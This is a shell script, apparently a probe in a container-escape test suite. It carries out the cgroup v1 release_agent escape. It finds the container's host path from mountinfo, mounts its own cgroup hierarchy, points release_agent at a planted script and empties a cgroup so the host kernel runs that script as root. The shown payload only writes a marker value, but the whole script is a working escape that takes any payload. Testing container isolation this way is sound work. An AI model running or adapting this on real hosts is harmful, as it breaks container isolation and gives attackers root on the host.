# Attack: make the host kernel run our script as root, as a cgroup v1 release agent.
# Where does our root directory live on the host? The overlay's upper layer is a host
# directory, and mountinfo shows its path.
upper=$(awk '$5 == "/"' /proc/self/mountinfo | sed -n 's/.*upperdir=\([^,]*\).*/\1/p' | head -n 1)
if [ -z "$upper" ]; then
    echo "no overlay upperdir in /proc/self/mountinfo: cannot tell our host path"
    exit 1
fi
echo "our / is $upper on the host"
# The agent: the kernel runs it on the host, so it names the host's marker path.
printf '#!/bin/sh\necho %s > %s\n' "$MC_NONCE" "$MC_MARKER" > /mc-release-agent
chmod 755 /mc-release-agent
# A cgroup v1 hierarchy of our own: a named one needs no controller.
cg=/tmp/cgroup-v1
mkdir -p $cg
if ! mount -t cgroup -o "none,name=$MC_CGROUP_NAME" cgroup $cg; then
    echo "could not mount a cgroup v1 hierarchy (name=$MC_CGROUP_NAME) on $cg"
    exit 1
fi
mkdir $cg/x
echo 1 > $cg/x/notify_on_release
if echo "$upper/mc-release-agent" > $cg/release_agent; then
    echo "release_agent set: $(cat $cg/release_agent)"
    # A process that joins cgroup x and ends: x is empty, the kernel runs the agent.
    sh -c "echo \$\$ > $cg/x/cgroup.procs"
    echo "cgroup x is empty now: the kernel runs release_agent on the host"
    sleep 2  # removing x before the kernel got to it would cancel the agent
    written=yes
else
    echo "could not write $cg/release_agent"
fi
# Leave no hierarchy behind: it lives on in the kernel while it has a child cgroup
# (and a removed child takes a moment to leave the list).
rmdir $cg/x
sleep 1
umount $cg
[ "$written" = yes ]
